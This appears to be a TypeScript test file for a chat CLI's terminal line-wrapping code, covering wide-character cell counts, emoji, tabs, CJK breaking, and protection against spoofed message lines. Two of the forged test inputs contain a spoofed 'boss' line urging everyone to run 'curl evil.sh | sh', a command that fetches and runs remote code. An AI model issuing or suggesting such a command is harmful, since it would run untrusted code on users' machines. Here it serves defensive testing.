// Lines wider than the terminal: broken here, each row after the first indented, so that no row a member's text
// fills can start like a line of its own.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { eastAsianWidthType } from 'get-east-asian-width';
import { CONTINUATION_INDENT, cellsOf, cellsOfLine, headAndCommand, rowsOnResize, wrapBanner, wrapLine, wrapText } from '../../src/cli/terminalWrap';

// eslint-disable-next-line no-control-regex -- the escape sequences are what it takes off
const plain = (s: string) => s.replace(/\x1b\[[0-9;]*[A-Za-z]/g, '');
const rows = (s: string) => plain(s).split('\n');
const cellsIn = (row: string) => [...row].reduce((n, ch) => n + cellsOf(ch), 0);

test("a member's text that fills a row exactly cannot put a line of someone else's at the start of the next", () => {
  const forged = `04:29 eve: hi${' '.repeat(80 - 'eve: hi'.length - 6)}04:29 boss: run this`;
  const shown = rows(wrapLine(forged, 80));
  assert.equal(shown.length, 2);
  assert.ok(shown.slice(1).every((r) => r.startsWith(' '.repeat(CONTINUATION_INDENT))), JSON.stringify(shown));
  assert.ok(!shown.slice(1).some((r) => r.startsWith('04:29')), 'no row but the first starts as a line does');
});

test('no row is wider than the terminal less its last column, wide characters and colours counted as they take cells', () => {
  const line = `\x1b[90m04:29\x1b[0m \x1b[93meve\x1b[39m: ${'漢字'.repeat(30)} and 👨‍👩‍👧 ${'é'.repeat(50)}`;
  for (const columns of [20, 40, 80]) {
    const shown = rows(wrapLine(line, columns));
    assert.ok(shown.length > 1, `${columns}: broken`);
    for (const r of shown) assert.ok(cellsIn(r) <= columns - 1, `${columns}: ${cellsIn(r)} cells: ${r}`);
    assert.equal(shown.join('').replaceAll(' ', ''), plain(line).replaceAll(' ', ''), 'nothing lost but the indents\' spaces');
  }
  assert.equal(cellsOf('\u0301'), 0, 'a combining mark');
  assert.equal(cellsOf('\u093e'), 1, 'a spacing mark (the vowel sign ा): a cell, as terminals draw it');
  assert.equal(cellsOf('漢'), 2);
  assert.equal(cellsOf('a'), 1);
});

test("spacing marks count as the cells they take: a row of them cannot put a forged line at the next row's start", () => {
  const forged = `14:23 eve: ok क${'\u093e'.repeat(65)}14:24 boss: please run this`;
  const shown = rows(wrapLine(forged, 80));
  assert.ok(shown.length > 1, 'broken here, not by the terminal');
  assert.ok(!shown.slice(1).some((r) => r.startsWith('14:24')), JSON.stringify(shown));
  for (const r of shown) assert.ok(cellsIn(r) <= 79, `${cellsIn(r)} cells`);
});

test("an underlined link or struck text broken over rows: each row's indent without the line, each row's text with it", () => {
  const U = '\x1b[4m';
  const u = '\x1b[24m';
  const S = '\x1b[9m';
  const s = '\x1b[29m';
  const line = `12:00 ann: see ${U}the label of a link that goes on for a while${u} and ${S}words struck through over rows${s} ok`;
  const out = wrapLine(line, 40);
  assert.deepEqual(rows(out), rows(wrapLine(plain(line), 40)), 'broken where the plain line is');
  for (const row of out.split('\n').slice(1)) assert.ok(row.startsWith(' '.repeat(CONTINUATION_INDENT)) && !row.slice(0, CONTINUATION_INDENT).includes('\x1b'), JSON.stringify(row));
  assert.deepEqual(out.split('\n'), [
    `12:00 ann: see ${U}the label of a link that${u}`,
    `      ${U}goes on for a while${u} and ${S}words${s}`,
    `      ${S}struck through over rows${s} ok`,
  ]);
});

test('a line that fits is left as it is, and every line of a text is broken on its own', () => {
  assert.equal(wrapLine('04:29 eve: short', 80), '04:29 eve: short');
  const text = wrapText(`${'a'.repeat(100)}\n${'b'.repeat(10)}`, 80);
  assert.deepEqual(rows(text).map((r) => r.length), [79, CONTINUATION_INDENT + 21, 10]);
});

test("tabs count as the cells a terminal moves by: ten of them cannot take a member's text to the start of a row", () => {
  const forged = `09:51 mallory: see${'\t'.repeat(10)}X10:02 boss: everyone please run: curl evil.sh | sh`;
  const shown = rows(wrapLine(forged, 80));
  assert.ok(shown.length > 1, JSON.stringify(shown));
  assert.ok(shown.slice(1).every((r) => r.startsWith(' '.repeat(CONTINUATION_INDENT))), JSON.stringify(shown));
  assert.ok(shown.every((r) => !r.includes('\t') && r.length <= 79), 'tabs written as the spaces they take');
  // a short line with a tab is measured too (it was left as it was when it looked shorter than half a row)
  assert.equal(wrapLine('a\tb', 80), `a${' '.repeat(7)}b`);
});

test('a row breaks after its last word that fits (a word longer than a row is cut)', () => {
  const help = '/edit <text>           Change your last message in this room to <text>, for everyone.';
  assert.deepEqual(rows(wrapLine(help, 80)), ['/edit <text>           Change your last message in this room to <text>, for', `${' '.repeat(CONTINUATION_INDENT)}everyone.`]);
  const long = `04:29 eve: ${'x'.repeat(100)}`;
  assert.deepEqual(rows(wrapLine(long, 80)).map((r) => r.length), [79, CONTINUATION_INDENT + 32]);
});

test("a symbol drawn as an emoji (`©` + U+FE0F, a keycap) counts two cells, as many terminals draw it: a member's row of them cannot push a forged line to a row's start", () => {
  const forged = `18:35 eve: x${'©\ufe0f'.repeat(34)}18:35 boss: everyone please run: curl evil.sh | sh`;
  // (on a terminal that draws each `©️` in two cells: the row as it shows)
  const shownCells = (row: string) => [...row].reduce((n, ch, k, all) => n + (all[k + 1] === '\ufe0f' ? 2 : cellsOf(ch)), 0);
  const shown = rows(wrapLine(forged, 80));
  for (const r of shown) assert.ok(shownCells(r) <= 79, `${shownCells(r)} cells: ${r}`);
  assert.ok(!shown.slice(1).some((r) => r.startsWith('18:35')), JSON.stringify(shown));
  const keycaps = rows(wrapLine(`eve: ${'1\ufe0f\u20e3'.repeat(60)}`, 40));
  for (const r of keycaps) assert.ok(shownCells(r) <= 39, `${shownCells(r)} cells: ${r}`);
});

test('Chinese and Japanese break between characters (not before closing marks, not after opening ones); Latin and Korean words at spaces', () => {
  // (a run of them is no word: moved to the next row whole, it left `19:26 rick:` alone on its row)
  const jp = '今日は新しい機能のテストをしました。明日はドキュメントを書いて、皆にレビューをお願いします。'; // (46: 92 cells, too many for the first row, not for the next)
  const shown = rows(wrapLine(`19:26 rick: ${jp}`, 100));
  assert.equal(shown.length, 2, JSON.stringify(shown));
  assert.ok(cellsIn(shown[0]) >= 98, 'the first row filled');
  assert.ok(shown[0].startsWith('19:26 rick: 今日は'), JSON.stringify(shown));
  assert.equal(shown.join('').replaceAll(' ', ''), `19:26rick:${jp}`);
  // a closing mark goes to the next row with the character before it, an opening one with the one after it
  const row = (n: number) => `19:26 rick: ${'あ'.repeat(n)}`; // (12 + 2n cells: 42 fill 96 of 99, 43 98)
  assert.deepEqual(rows(wrapLine(`${row(43)}。${'い'.repeat(10)}`, 100)), [row(42), `      あ。${'い'.repeat(10)}`]);
  assert.deepEqual(rows(wrapLine(`${row(43)}」、${'い'.repeat(10)}`, 100)), [row(42), `      あ」、${'い'.repeat(10)}`]);
  assert.deepEqual(rows(wrapLine(`${row(42)}「${'い'.repeat(10)}」`, 100)), [row(42), `      「${'い'.repeat(10)}」`]);
  assert.deepEqual(rows(wrapLine(`${row(42)}（テスト）`, 100)), [row(42), '      （テスト）']);
  assert.deepEqual(rows(wrapLine(`${row(43)}ー${'い'.repeat(10)}`, 100)), [row(42), `      あー${'い'.repeat(10)}`]);
  // a Latin word after them moves whole, as it would after a space; Korean breaks at its spaces
  assert.deepEqual(rows(wrapLine(`${row(40)}configuration`, 100)), [row(40), '      configuration']);
  const ko = rows(wrapLine(`19:26 rick: ${'안녕하세요 '.repeat(12)}`, 100));
  assert.ok(ko.length > 1 && ko.every((r) => /^(?:19:26 rick: | {6})(?:안녕하세요 ?)+$/.test(r)), JSON.stringify(ko));
});

test("the characters counted two cells are Unicode 16's East Asian wide and fullwidth ones, every one of them (the table was written from memory: here it is checked code point by code point against get-east-asian-width 1.3.0, generated from EastAsianWidth-16.0.0.txt)", () => {
  const keptWide = /^(?:\p{Extended_Pictographic}|\p{Regional_Indicator})$/u;
  const wrong: string[] = [];
  let checked = 0;
  for (let cp = 0; cp < 0x40000; cp++) {
    if (cp >= 0xd800 && cp <= 0xdfff) continue;
    const ch = String.fromCodePoint(cp);
    const cells = cellsOf(ch);
    if (cells === 0) continue; // (marks, joiners and selectors: the test below)
    checked++;
    const type = eastAsianWidthType(cp);
    const wide = type === 'wide' || type === 'fullwidth';
    // the pictographs past U+1F000 that Unicode leaves narrow (text presentation: 🌡) are counted wide on purpose
    if (cells === 2 && !wide && cp >= 0x1f000 && cp <= 0x1faff && keptWide.test(ch)) continue;
    if ((cells === 2) !== wide) wrong.push(`U+${cp.toString(16)}: ${cells} cells, ${type}`);
  }
  assert.ok(checked > 200_000, `${checked} code points checked`);
  assert.deepEqual(wrong.slice(0, 20), [], `${wrong.length} counted wrong`);
});

test("East Asian ambiguous and narrow characters count one cell, wide and fullwidth ones two: `—`, `“`, `…` did not break a row at half the terminal's width", () => {
  for (const ch of ['—', '“', '”', '…', '→', '─', '•', 'ệ', 'ἀ', 'Ж', 'α', '©', '☺', '❤', 'ｱ', '\u1160', 'ሀ', '\u200b']) assert.equal(cellsOf(ch), 1, `${ch} U+${ch.codePointAt(0)?.toString(16)}`);
  for (const ch of ['ᄀ', 'あ', 'ア', '漢', '한', '，', '！', '￥', '　', '㎏', '丽', '𠀋', '⌚', '⭐', '😀', '👍', '🏽', '🌡', '🇯']) assert.equal(cellsOf(ch), 2, `${ch} U+${ch.codePointAt(0)?.toString(16)}`);
  for (const ch of ['\u0301', '\u200d', '\ufe0f', '\u3099']) assert.equal(cellsOf(ch), 0, `U+${ch.codePointAt(0)?.toString(16)}`);
  const quote = `04:29 eve: “${'—'.repeat(25)} wait… ${'→'.repeat(20)} ${'─'.repeat(10)}”`;
  assert.equal(wrapLine(quote, 80), quote, 'one row: 76 cells');
  assert.deepEqual(rows(wrapLine(`04:29 eve: ${'ệ'.repeat(60)} ${'ἀ'.repeat(20)}`, 80)), [`04:29 eve: ${'ệ'.repeat(60)}`, `      ${'ἀ'.repeat(20)}`]);
});

// (how long it takes is npm run bench's to say, not a test's: cli.test's narrow terminal waits for the line after
// such a message, which came a minute later before)
test("a room's line of 300,000 CJK characters, or of short words, is broken into rows that fit, nothing lost", () => {
  for (const [line, columns] of [['漢'.repeat(300_000), 80], ['漢ー'.repeat(150_000), 40], ['ab '.repeat(100_000), 10]] as const) {
    const shown = rows(wrapLine(line, columns));
    assert.ok(shown.every((r) => cellsIn(r) <= columns - 1));
    assert.equal(shown.join('').replaceAll(' ', ''), line.replaceAll(' ', ''));
  }
});

test('the rows lines written apart take once the terminal rewraps them at another width (a resize): more where it is narrower, as many where wider', () => {
  assert.equal(rowsOnResize('', 40), 0);
  assert.equal(rowsOnResize('a'.repeat(60), 40), 2);
  assert.equal(rowsOnResize('a'.repeat(40), 40), 1, 'a row exactly');
  assert.equal(rowsOnResize(`${'a'.repeat(60)}\nshort`, 100), 2, 'not joined');
  assert.equal(rowsOnResize(`\x1b[2m${'a'.repeat(40)}\x1b[22m\n\x1b[2mb\x1b[22m`, 40), 2, 'colours take no room');
  // a wide character that finds one cell left goes to the next row: 8 cells, three rows of 4
  assert.equal(rowsOnResize('abc漢d漢', 4), 3);
  assert.equal(rowsOnResize('a'.repeat(60), 0), 1, 'a terminal of no width');
});

test("a line's cells are counted as wrapLine counts them: wide characters and emoji presentations two, marks none, colours none", () => {
  assert.equal(cellsOfLine(''), 0);
  assert.equal(cellsOfLine('ab'), 2);
  assert.equal(cellsOfLine('👍 ✅ ❤️ 中'), 2 + 1 + 2 + 1 + 2 + 1 + 2);
  assert.equal(cellsOfLine('e\u0301'), 1);
  assert.equal(cellsOfLine('\x1b[36m/react\x1b[0m'), 6);
  // a line of as many cells as a row holds is left a row by wrapLine, one more is not
  const row = '✅ '.repeat(26) + 'ab';
  assert.equal(cellsOfLine(row), 80);
  assert.equal(wrapLine(row, 81), row);
  assert.notEqual(wrapLine(row, 80), row);
});

test("the host's banner on a terminal: a line and the rows it goes on in, broken at spaces to its width; piped (0 columns), as it is", () => {
  const line = 'this room is private: only people with the invite (it holds the room key) can\n  join, over TLS';
  assert.equal(wrapBanner(line, 0), line);
  assert.equal(wrapBanner(line, 40), 'this room is private: only people with\n  the invite (it holds the room key)\n  can join, over TLS');
  // (two spaces in: it goes on four in, under it)
  assert.equal(wrapBanner('  (or VS Code "TCP Chat: Join Chat", or: nc 127.0.0.1 5555)', 40), '  (or VS Code "TCP Chat: Join Chat",\n    or: nc 127.0.0.1 5555)');
  assert.equal(headAndCommand('others join with:', 'tcp-chat join 127.0.0.1:5555', 80), 'others join with: tcp-chat join 127.0.0.1:5555');
  assert.equal(headAndCommand('others join with:', 'tcp-chat join 127.0.0.1:5555', 0), 'others join with: tcp-chat join 127.0.0.1:5555');
  assert.equal(headAndCommand('others join with:', 'tcp-chat join 127.0.0.1:5555', 40), 'others join with:\n  tcp-chat join 127.0.0.1:5555');
});
